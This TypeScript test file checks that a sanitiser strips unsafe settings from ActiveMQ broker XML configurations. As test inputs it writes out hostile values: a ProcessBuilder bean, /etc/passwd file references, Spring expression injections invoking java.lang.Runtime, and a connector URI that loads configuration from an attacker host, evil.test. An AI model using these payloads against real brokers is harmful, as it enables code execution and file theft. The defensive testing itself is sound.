import { parseXml } from '@sluice/wire'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { ConfigurationElement } from '#engines/broker-engine.ts'
import { DEFAULT_CONFIGURATION } from '#services/mq/configuration/default-configuration.ts'
import { permittedFor } from '#services/mq/configuration/permitted.ts'
import { type SanitizationWarning, sanitise } from '#services/mq/configuration/sanitise.ts'
import { configurationText } from '#services/mq/configuration/xml-text.ts'

const sanitised = (inside: string, attributes = '') =>
  sanitise(
    parseXml(Buffer.from(`<broker xmlns="http://activemq.apache.org/schema/core" ${attributes}>${inside}</broker>`)),
    'simple',
  )

const PERMITTED = permittedFor('ldap')

const DISALLOWED_ELEMENT: SanitizationWarning['reason'] = 'DISALLOWED_ELEMENT_REMOVED'
const DISALLOWED_ATTRIBUTE: SanitizationWarning['reason'] = 'DISALLOWED_ATTRIBUTE_REMOVED'
const INVALID_VALUE: SanitizationWarning['reason'] = 'INVALID_ATTRIBUTE_VALUE_REMOVED'

test.each([
  ['the default', DEFAULT_CONFIGURATION],
  [
    'an authorization map',
    `<broker><plugins><authorizationPlugin><map><authorizationMap>
       <authorizationEntries>
         <authorizationEntry admin="admins,activemq-webconsole" read="users" write="admins" queue=">"/>
       </authorizationEntries>
       <tempDestinationAuthorizationEntry><tempDestinationAuthorizationEntry admin="a" read="a" write="a"/></tempDestinationAuthorizationEntry>
     </authorizationMap></map></authorizationPlugin></plugins></broker>`,
  ],
  [
    'all six plugins',
    `<broker schedulerSupport="true"><plugins>
       <authorizationPlugin/><discardingDLQBrokerPlugin dropAll="true"/><forcePersistencyModeBrokerPlugin persistenceFlag="true"/>
       <redeliveryPlugin fallbackToDeadLetter="true" sendToDlqIfMaxRetriesExceeded="true"><redeliveryPolicyMap><redeliveryPolicyMap>
         <redeliveryPolicyEntries><redeliveryPolicy maximumRedeliveries="4" queue="Q"/></redeliveryPolicyEntries>
         <defaultEntry><redeliveryPolicy maximumRedeliveries="4" initialRedeliveryDelay="5000"/></defaultEntry>
       </redeliveryPolicyMap></redeliveryPolicyMap></redeliveryPlugin>
       <statisticsBrokerPlugin/><timeStampingBrokerPlugin ttlCeiling="86400000" zeroExpirationOverride="86400000"/>
     </plugins></broker>`,
  ],
  [
    'virtual destinations',
    `<broker><destinationInterceptors>
       <mirroredQueue copyMessage="true" postfix=".qmirror" prefix=""/>
       <virtualDestinationInterceptor><virtualDestinations>
         <virtualTopic name=">" prefix="VirtualTopicConsumers.*." selectorAware="false"/>
         <compositeQueue name="MY.QUEUE"><forwardTo><queue physicalName="FOO"/><topic physicalName="BAR"/></forwardTo></compositeQueue>
       </virtualDestinations></virtualDestinationInterceptor>
     </destinationInterceptors></broker>`,
  ],
  [
    'storage, memory and a network of brokers',
    `<broker><persistenceAdapter><kahaDB preallocationStrategy="zeros" concurrentStoreAndDispatchQueues="false"
         journalDiskSyncInterval="10000" journalDiskSyncStrategy="periodic"/></persistenceAdapter>
       <systemUsage><systemUsage sendFailIfNoSpace="true" sendFailIfNoSpaceAfterTimeout="2000">
         <memoryUsage><memoryUsage percentOfJvmHeap="60"/></memoryUsage></systemUsage></systemUsage>
       <networkConnectors><networkConnector name="c" userName="common" duplex="true" uri="static:(ssl://127.0.0.2:61617)"/></networkConnectors>
       <transportConnectors><transportConnector name="openwire" updateClusterClients="true" rebalanceClusterClients="true"/></transportConnectors>
     </broker>`,
  ],
])('%s is permitted as AWS documents it', (_what, text) => {
  expect(sanitise(parseXml(Buffer.from(text)), 'simple').warnings).toEqual([])
})

const PERMISSIONS = `<plugins><authorizationPlugin><map><cachedLDAPAuthorizationMap queueSearchBase="ou=q" topicSearchBase="ou=t"
  tempSearchBase="ou=x" refreshInterval="300000" legacyGroupMapping="false"/></map></authorizationPlugin></plugins>`

test('permissions of a directory are permitted with LDAP, and nothing that says which directory', () => {
  const inLdap = (inside: string) => sanitise(parseXml(Buffer.from(`<broker>${inside}</broker>`)), 'ldap')
  expect(inLdap(PERMISSIONS).warnings).toEqual([])
  expect(sanitised(PERMISSIONS).warnings).toEqual([
    { reason: DISALLOWED_ELEMENT, elementName: 'cachedLDAPAuthorizationMap' },
  ])
  for (const attributeName of ['connectionURL', 'connectionUsername', 'connectionPassword', 'groupClass'])
    expect(inLdap(PERMISSIONS.replace('queueSearchBase', attributeName)).warnings).toEqual([
      { reason: DISALLOWED_ATTRIBUTE, elementName: 'cachedLDAPAuthorizationMap', attributeName },
    ])
})

describe('what would open the broker or its machine is removed', () => {
  test.each([
    ['<plugins><simpleAuthenticationPlugin anonymousAccessAllowed="true"/></plugins>', 'simpleAuthenticationPlugin'],
    ['<plugins><jaasAuthenticationPlugin configuration="x"/></plugins>', 'jaasAuthenticationPlugin'],
    ['<plugins><loggingBrokerPlugin logAll="true"/></plugins>', 'loggingBrokerPlugin'],
    ['<plugins><bean class="java.lang.ProcessBuilder"/></plugins>', 'bean'],
    ['<managementContext><managementContext connectorPort="1099"/></managementContext>', 'managementContext'],
    ['<sslContext><sslContext keyStore="/etc/passwd"/></sslContext>', 'sslContext'],
    ['<shutdownHooks><bean class="x"/></shutdownHooks>', 'shutdownHooks'],
    ['<persistenceAdapter><jdbcPersistenceAdapter/></persistenceAdapter>', 'jdbcPersistenceAdapter'],
    ['<policyEntry queue=">"/>', 'policyEntry'],
    ['<import resource="file:/etc/passwd"/>', 'import'],
  ])('%s', (inside, elementName) => {
    const { root, warnings } = sanitised(inside)
    expect(warnings).toEqual([{ reason: DISALLOWED_ELEMENT, elementName }])
    expect(JSON.stringify(root)).not.toContain(elementName)
  })
})

test.each([
  ['brokerName="x"', 'brokerName'],
  ['dataDirectory="/"', 'dataDirectory'],
  ['useJmx="false"', 'useJmx'],
  ['start="false"', 'start'],
  ['systemExitOnShutdown="true"', 'systemExitOnShutdown'],
])('the broker keeps its own %s', (attribute, attributeName) => {
  const { root, warnings } = sanitised('', attribute)
  expect(warnings).toEqual([{ reason: DISALLOWED_ATTRIBUTE, elementName: 'broker', attributeName }])
  expect(root.attributes).toEqual([])
})

test('a network connector holds no password, and a store no directory', () => {
  const { warnings } = sanitised(
    `<networkConnectors><networkConnector uri="static:(ssl://h:1)" userName="u" password="secret"/></networkConnectors>
     <persistenceAdapter><kahaDB directory="/tmp"/></persistenceAdapter>`,
  )
  expect(warnings).toEqual([
    { reason: DISALLOWED_ATTRIBUTE, elementName: 'networkConnector', attributeName: 'password' },
    { reason: DISALLOWED_ATTRIBUTE, elementName: 'kahaDB', attributeName: 'directory' },
  ])
})

test.each([
  ['advisorySupport="maybe"'],
  ['persistent="TRUE"'],
  ['schedulePeriodForDestinationPurge="soon"'],
  ['schedulePeriodForDestinationPurge="1e9"'],
  ['schedulePeriodForDestinationPurge="${java.version}"'],
  ['maxPurgedDestinationsPerSweep="#{1+1}"'],
])('the value of %s is no value of its kind', (attribute) => {
  expect(sanitised('', attribute).warnings).toEqual([
    { reason: INVALID_VALUE, elementName: 'broker', attributeName: attribute.split('=')[0] },
  ])
})

test.each(['${user.home}', 'a#{T(java.lang.Runtime)}', '#someBean', ' #someBean', '&#10;x'])(
  'the text %j is an expression, a reference or not to be written, so it is removed',
  (value) => {
    const { root, warnings } = sanitised(`<destinations><queue physicalName="${value}"/></destinations>`)
    expect(warnings).toEqual([{ reason: INVALID_VALUE, elementName: 'queue', attributeName: 'physicalName' }])
    expect(root.children[0]?.children[0]?.attributes).toEqual([])
  },
)

test('a network connector reaches brokers, and no transport that loads a configuration from anywhere', () => {
  const { warnings } = sanitised(
    '<networkConnectors><networkConnector name="n" uri="static:(vm://evil?brokerConfig=xbean:http://evil.test/x.xml)"/></networkConnectors>',
  )
  expect(warnings).toEqual([{ reason: INVALID_VALUE, elementName: 'networkConnector', attributeName: 'uri' }])
})

test.each([
  ['0', true],
  ['70', true],
  ['71', false],
  ['-1', false],
  ['50.5', false],
])('a broker may take %s percent of the heap: %s', (percent, isPermitted) => {
  const { warnings } = sanitised(
    `<systemUsage><systemUsage><memoryUsage><memoryUsage percentOfJvmHeap="${percent}"/></memoryUsage></systemUsage></systemUsage>`,
  )
  expect(warnings.length === 0).toBe(isPermitted)
})

const NAMES = [...PERMITTED.keys(), 'plugins', 'map', 'policyEntries', 'bean', 'sslContext', 'toString', '__proto__']
const attribute = fc.record({
  name: fc.constantFrom('queue', 'topic', 'name', 'id', 'brokerName', 'limit', 'dropAll', 'constructor'),
  value: fc.oneof(fc.constantFrom('true', '12', '>', '${x}', '#b'), fc.string()),
})
const element = (children: fc.Arbitrary<readonly ConfigurationElement[]>): fc.Arbitrary<ConfigurationElement> =>
  fc.record({
    name: fc.constantFrom(...NAMES),
    attributes: fc.uniqueArray(attribute, { maxLength: 3, selector: ({ name }) => name }),
    children,
  })
const leaf = element(fc.constant([]))
const tree = [1, 2, 3].reduce((below) => element(fc.array(below, { maxLength: 4 })), leaf)

test('what is left needs no further cleaning, and reads back from its text as it is', () => {
  fc.assert(
    fc.property(tree, (element) => {
      const { root } = sanitise({ ...element, name: 'broker' }, 'ldap')
      const again = sanitise(root, 'ldap')
      expect(again).toEqual({ root, warnings: [] })
      const read = sanitise(parseXml(Buffer.from(configurationText(root))), 'ldap')
      expect(read).toEqual({ root, warnings: [] })
    }),
    { seed: 1, numRuns: 300 },
  )
})

test('elements below the root are permitted ones, whatever was sent', () => {
  const collections = new Set([...PERMITTED.values()].flatMap((each) => [...each.collections.keys()]))
  const names = ({ name, children }: ConfigurationElement): readonly string[] => [name, ...children.flatMap(names)]
  fc.assert(
    fc.property(tree, (element) => {
      for (const name of names(sanitise({ ...element, name: 'broker' }, 'ldap').root))
        expect(PERMITTED.has(name) || collections.has(name)).toBe(true)
    }),
    { seed: 2, numRuns: 300 },
  )
})
